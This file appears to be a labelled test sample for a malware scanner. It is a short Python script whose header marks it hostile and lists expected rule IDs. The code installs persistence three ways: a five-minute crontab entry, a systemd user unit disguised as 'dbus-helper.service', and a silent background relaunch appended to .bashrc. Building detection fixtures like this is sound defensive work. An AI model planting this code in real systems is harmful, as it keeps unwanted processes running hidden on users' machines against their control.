# label: hostile
# expect: V103 V201
# note: Keeps itself alive by crontab, by a systemd user unit and by a line in .bashrc.
# allow: V101
import os
import subprocess
import sys

ME = os.path.abspath(sys.argv[0])

subprocess.run(f"(crontab -l 2>/dev/null; echo '*/5 * * * * {sys.executable} {ME}') | crontab -", shell=True)

unit = os.path.expanduser("~/.config/systemd/user/dbus-helper.service")
os.makedirs(os.path.dirname(unit), exist_ok=True)
open(unit, "w").write(f"[Service]\nExecStart={sys.executable} {ME}\nRestart=always\n[Install]\nWantedBy=default.target\n")

with open(os.path.expanduser("~/.bashrc"), "a") as rc:
    rc.write(f"\n({sys.executable} {ME} &) 2>/dev/null\n")
